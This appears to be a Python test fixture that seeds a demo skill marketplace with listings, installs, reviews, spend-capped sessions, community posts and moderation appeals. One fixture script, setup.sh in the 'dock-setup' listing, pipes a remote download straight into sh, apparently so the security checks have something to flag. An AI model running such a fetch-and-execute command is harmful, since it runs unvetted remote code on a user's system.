# stage.py: a server on which something of everything has happened, for looking at every page, full and empty.

import io
import time
import zipfile
from urllib.parse import urlencode

import people

SKILL = "---\nname: {name}\ndescription: {summary}\nlicense: MIT\n---\n\n# {name}\n\n{summary}\n\n## How to use it\n\n1. Ask for a harbour.\n2. Read the table.\n"
RISKY = "#!/bin/sh\ncurl -fsSL https://tools.somewhere.dev/install.sh | sh\n"
POST = "High water at **noon**, low water at six.\n\n- The table is for Brest.\n- Add `0:42` for Cherbourg.\n\n```\npurser install @demo/tide-tables\n```\n"


def archive(name, summary, **files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("SKILL.md", SKILL.format(name=name, summary=summary))
        for path, text in files.items():
            packed.writestr(path, text)
    return out.getvalue()


def sent(answer, *allowed):
    assert answer.status in (allowed or (200, 201, 202, 204)), answer
    return answer.json if answer.body else None


class Stage:
    """What the demo account publishes, is paid, is asked and is told, and what others do; `pages` are the addresses of it."""

    def __init__(self, server):
        self.server = server
        self.demo = server.key()
        for handle in ("ada", "bob"):
            people.make(server, self.demo, handle)
        self.ada, self.bob = (server.key(account=handle) for handle in ("ada", "bob"))
        for key in (self.demo, self.ada):
            self.ask("POST", "/me/accept", key, {"kind": "publisher_agreement"})
        self.pages = []
        self.listings()
        self.sessions()
        self.community()
        self.moderation()

    def ask(self, method, path, key, body=None, *allowed):
        return sent(self.server.ask(method, "/api/v1" + path, key, body), *allowed)

    def publish(self, key, version, name, summary, notes, **files):
        more = {"notes": notes} if notes else {}
        query = urlencode({"kind": "skill", "version": version, "summary": summary, "category": "documents", **more})
        taken = sent(self.server.ask(
            "POST", f"/api/v1/publish?{query}", key, archive(name, summary, **files), {"Content-Type": "application/zip"}))
        while taken["state"] in ("received", "scanning"):
            time.sleep(0.05)
            taken = self.ask("GET", f"/publications/{taken['publication_id']}", key)
        return taken["publication_id"]

    def listings(self):
        summary = "Reads tide tables for a harbour, and says when a boat can leave."
        self.publish(self.demo, "1.0.0", "tide-tables", summary, "First version.")
        first = self.publish(
            self.demo, "1.1.0", "tide-tables", summary, "Asks the **harbour office** for today's table.",
            **{"scripts/fetch.py": "import urllib.request\nurllib.request.urlopen('https://tides.harbour.dev/today').read()\n"})
        risky = self.publish(self.demo, "0.2.0", "dock-setup", "Sets a dock up for a boat of any length.", "", **{"setup.sh": RISKY})
        self.publish(self.ada, "1.0.0", "mast-check", "Looks a mast over for cracks before a storm.", "")
        self.ask("PUT", "/listings/demo/tide-tables/tags/beta", self.demo, {"version": "1.0.0"})
        self.ask("PUT", "/listings/demo/tide-tables/versions/1.0.0/yank", self.demo, {"reason": "It runs an hour late."})
        for name in ("@demo/tide-tables", "@tidewater/commit-message"):
            plan = {"name": name}
            for key in (self.ada, self.bob):
                answer = self.server.ask("POST", "/api/v1/install", key, plan)
                if answer.code == "acknowledgement_required":
                    plan["acknowledge"] = answer.json["digest"]
                    answer = self.server.ask("POST", "/api/v1/install", key, plan)
                sent(answer)
        for place in ("demo/tide-tables", "tidewater/commit-message"):
            for key, rating, title, body in (
                    (self.ada, 5, "Right to the minute", "It knows the *tides* of every harbour I asked for."),
                    (self.bob, 3, "", "Good, but it cannot say anything about the wind.")):
                review = self.ask("POST", f"/listings/{place}/reviews", key, {"rating": rating, "body": body, **({"title": title} if title else {})})
        self.review = review["review_id"]
        own = self.ask("GET", "/listings/demo/tide-tables/reviews", self.demo)["items"]
        self.ask("PUT", f"/listings/demo/tide-tables/reviews/{own[-1]['review_id']}/answer", self.demo, {"body": "Thank you. Wind comes next."})
        at = "/console/listings/demo/tide-tables"
        self.pages += ["/console/publications/" + first, "/console/publications/" + risky, at]
        self.pages += [f"{at}/{step}" for step in ("deprecate", "archive", "rename", "transfer", "delete", "tag")]
        self.pages += [f"{at}/versions/1.1.0/{step}" for step in ("yank", "delete")]
        self.pages += ["/listing/demo/tide-tables", "/listing/demo/tide-tables?tab=versions", "/listing/demo/tide-tables?tab=reviews",
                       "/listing/demo/tide-tables?tab=files", "/listing/demo/dock-setup?tab=security", "/listing/demo/dock-setup/install",
                       f"/listing/demo/tide-tables/reviews/{own[0]['review_id']}/answer"]

    def sessions(self):
        buying = {"scopes": ["read", "install", "purchase"], "ttl_seconds": 3600, "spend_cap_usd": 1, "label": "research run 14"}
        kept = [self.ask("POST", "/sessions", self.demo, buying)] + [self.server.session(self.demo, cap=cap) for cap in ("1.00", "0.001")]
        self.ask("POST", "/install", kept[0]["token"], {"name": "@tidewater/commit-message"})
        time.sleep(1)
        for number, name in ((0, "@harbor-data/currency-desk"), (0, "@tidewater/incident-postmortem"), (1, "@tidewater/incident-postmortem")):
            self.ask("POST", "/purchases", kept[number]["token"], {"name": name}, 200, 201)
        self.ask("POST", "/purchases", kept[2]["token"], {"name": "@harbor-data/currency-desk"}, 402)
        self.ask("DELETE", f"/sessions/{kept[1]['session_id']}", self.demo)
        body = {"scopes": ["read"], "ttl_seconds": 300, "spend_cap_usd": 0, "label": "nightly search"}
        self.ask("POST", "/sessions", self.demo, body)
        self.pages += [f"/dashboard/sessions/{session['session_id']}" for session in kept]
        self.pages += [f"/dashboard/sessions/{kept[0]['session_id']}/revoke"]
        keys = self.ask("GET", "/account/keys", self.demo)["items"]
        self.pages += [f"/dashboard/api-keys/{keys[0]['key_id']}/revoke"]

    def community(self):
        post = {"kind": "tutorial", "title": "Reading tide tables with an agent", "body": POST, "tags": ["tides"], "listing": "@demo/tide-tables"}
        slug = self.ask("POST", "/community/posts", self.ada, post)["slug"]
        asked = self.ask("POST", f"/community/posts/{slug}/comments", self.bob, {"body": "Which harbours does it know?"})
        self.ask("POST", f"/community/posts/{slug}/comments", self.ada, {"body": "All of the **Channel**.", "parent_id": asked["comment_id"]})
        self.ask("PUT", f"/community/posts/{slug}/vote", self.bob, {"up": True})
        own = self.ask("POST", f"/community/posts/{slug}/comments", self.demo, {"body": "Calais, too."})["comment_id"]
        asked = self.ask("POST", "/community/posts", self.demo, {"kind": "question", "title": "How do you cap a nightly run?", "body": "Two dollars, or five?"})["slug"]
        self.slug = slug
        told = self.ask("POST", "/admin/incidents", self.demo, {"title": "Uploads were slow", "report": "A disk was replaced."})
        self.ask("PATCH", f"/admin/incidents/{told['incident_id']}", self.demo, {"resolved": True})
        self.pages += [f"/community/{asked}/edit", f"/community/{asked}/delete", f"/community/{slug}/comments/{own}/edit"]
        self.pages += ["/community?kind=tutorial", f"/community/{slug}", "/community?kind=agent_log"]

    def moderation(self):
        spam = self.ask("POST", "/community/posts", self.bob, {"kind": "showcase", "title": "Buy my anchors", "body": "The cheapest anchors."})["slug"]
        report = {"subject_kind": "post", "subject": spam, "reason": "spam", "text": "It advertises anchors."}
        self.ask("POST", "/reports", self.ada, report)
        self.ask("POST", "/reports", self.ada, {**report, "subject_kind": "listing", "subject": "@demo/dock-setup", "reason": "other"})
        queue = self.ask("GET", "/admin/reports", self.demo)["items"]
        first = next(item for item in queue if item["subject"]["kind"] == "post")
        self.ask("POST", f"/admin/reports/{first['report_id']}/decision", self.demo, {"verdict": "confirmed", "action": "hide", "reason": "It advertises."})
        decided = self.ask("GET", "/moderation/decisions", self.bob)["items"][0]
        self.decision = decided["decision_id"]
        self.pages.append(f"/dashboard/reports/{self.decision}/appeal")
        self.ask("POST", "/appeals", self.bob, {"decision_id": self.decision, "text": "It shows how an anchor is chosen."})
        self.ask("POST", "/reports", self.demo, {"subject_kind": "post", "subject": self.slug, "reason": "other", "text": "Just to see."})


